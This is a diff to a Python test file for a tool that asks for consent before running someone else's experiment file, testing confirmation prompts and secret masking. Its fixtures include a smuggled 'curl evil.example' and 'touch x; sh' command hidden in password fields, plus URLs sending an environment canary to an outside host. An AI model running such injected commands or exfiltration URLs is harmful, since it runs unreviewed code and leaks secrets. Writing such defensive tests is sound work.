@@ -1,17 +1,18 @@
 """A stranger's experiment asks before it does anything, once for each content; what was looked at is what is run."""
 
+import io
 import os
 import pty
 import re
 import select
 import socket
-import subprocess
 import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+from tests.calling import called
 from tests.experiments import described
 
 from loadstone.cli.ad_hoc_experiment import ad_hoc_source
@@ -25,6 +26,7 @@ from loadstone.run.consent import FOLDER, SHOWN_CHARACTERS, SHOWN_LINES, listing
 from loadstone.run.prepare import prepare, requested_plan
 from loadstone.run.request import RunRequest
 from loadstone.run_folder.earlier_runs import files_sent
+from loadstone.safety import terminal
 from loadstone.safety.bounds import pinned_files
 from loadstone.safety.errors import UserError
 from loadstone.servers.server import DeployContext
@@ -173,11 +175,7 @@ def test_the_command_line_refuses_before_it_connects(theirs: Path) -> None:
     outside = f"  away: {{kind: url, url: 'redis://u:${{env:CANARY}}@outside.example:{port}'}}\n"
     here = f"  near: {{kind: url, url: 'redis://u:${{env:CANARY}}@127.0.0.1:{port}?cluster=yes'}}\n"
     theirs.write_text(EXPERIMENT.replace("subjects:\n", f"{here}{outside}subjects:\n"))
-    environment = {**os.environ, "CANARY": "c4naryValue99"}
-    command = [str(LOADSTONE), "run", str(theirs), "--quick"]
-    done = subprocess.run(
-        command, env=environment, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL
-    )
+    done = called("run", theirs, "--quick", environment={"CANARY": "c4naryValue99"})
     assert done.returncode == 2
     assert done.stderr.count("\n") == 1
     assert "add --trust" in done.stderr
@@ -194,7 +192,9 @@ def test_a_file_cannot_hide_its_command_as_a_secret(theirs: Path) -> None:
     (theirs.parent / "subject.yaml").write_text(
         f"{text}environment: {{PASSWORD: curl, OTHER_PASSWORD: evil.example, RUN_PASSWORD: 'touch x; sh'}}\n"
     )
-    said = subprocess.run([str(LOADSTONE), "show", str(theirs)], capture_output=True, text=True, check=True).stdout
+    shown = called("show", theirs)
+    said = shown.stdout
+    assert shown.returncode == 0
     assert "  starts sh -c 'curl evil.example' (subject app" in said
     assert "PASSWORD=*** OTHER_PASSWORD=*** RUN_PASSWORD=touch x; sh (subject app)" in said
     asked, _ = on_a_terminal([str(LOADSTONE), "run", str(theirs)], "n")
@@ -213,7 +213,16 @@ def test_what_is_kept_of_an_answer_holds_no_password(theirs: Path, monkeypatch: 
 
 
 @pytest.mark.fault("a first run at a terminal", "the list is shown; only yes runs it", area="foreign")
-@pytest.mark.parametrize(("answer", "status"), [("n", 2), ("", 2), ("maybe", 2), ("y", 2)])
+@pytest.mark.parametrize(("answer", "yes"), [("n", False), ("", False), ("maybe", False), ("yes!", False),
+                                            ("y", True), (" YES ", True)])  # fmt: skip
+def test_only_yes_is_yes(monkeypatch: pytest.MonkeyPatch, answer: str, yes: bool) -> None:
+    for end in ("\n", ""):
+        monkeypatch.setattr(sys, "stdin", io.StringIO(answer + end))
+        assert terminal.confirmed("Run it? [y/N] ") is yes
+
+
+@pytest.mark.fault("a first run at a terminal")
+@pytest.mark.parametrize(("answer", "status"), [("", 2), ("y", 2)])
 def test_on_a_terminal_it_shows_the_list_and_asks(theirs: Path, answer: str, status: int) -> None:
     long = "true; " * 400
     many = "".join(f"  s{n}: {{kind: url, url: 'redis://outside{n}.example'}}\n" for n in range(40))
@@ -236,14 +245,14 @@ def test_on_a_terminal_it_shows_the_list_and_asks(theirs: Path, answer: str, sta
 
 def on_a_terminal(command: list[str], answer: str) -> tuple[str, int]:
     """What a command says at a terminal of its own, and its status; the answer is typed at its question."""
-    pid, terminal = pty.fork()
+    pid, screen = pty.fork()
     if pid == 0:
         os.execv(command[0], command)
     said, answered, deadline = b"", False, time.monotonic() + 60
     while time.monotonic() < deadline:
-        if select.select([terminal], [], [], 0.2)[0]:
+        if select.select([screen], [], [], 0.2)[0]:
             try:
-                piece = os.read(terminal, 65536)
+                piece = os.read(screen, 65536)
             except OSError:
                 break
             if not piece:
@@ -251,9 +260,9 @@ def on_a_terminal(command: list[str], answer: str) -> tuple[str, int]:
             said += piece
         if b"[y/N]" in said and not answered:
             answered = True
-            os.write(terminal, f"{answer}\n".encode())
+            os.write(screen, f"{answer}\n".encode())
     _, status = os.waitpid(pid, 0)
-    os.close(terminal)
+    os.close(screen)
     return said.decode(errors="replace"), os.waitstatus_to_exitcode(status)
 
 
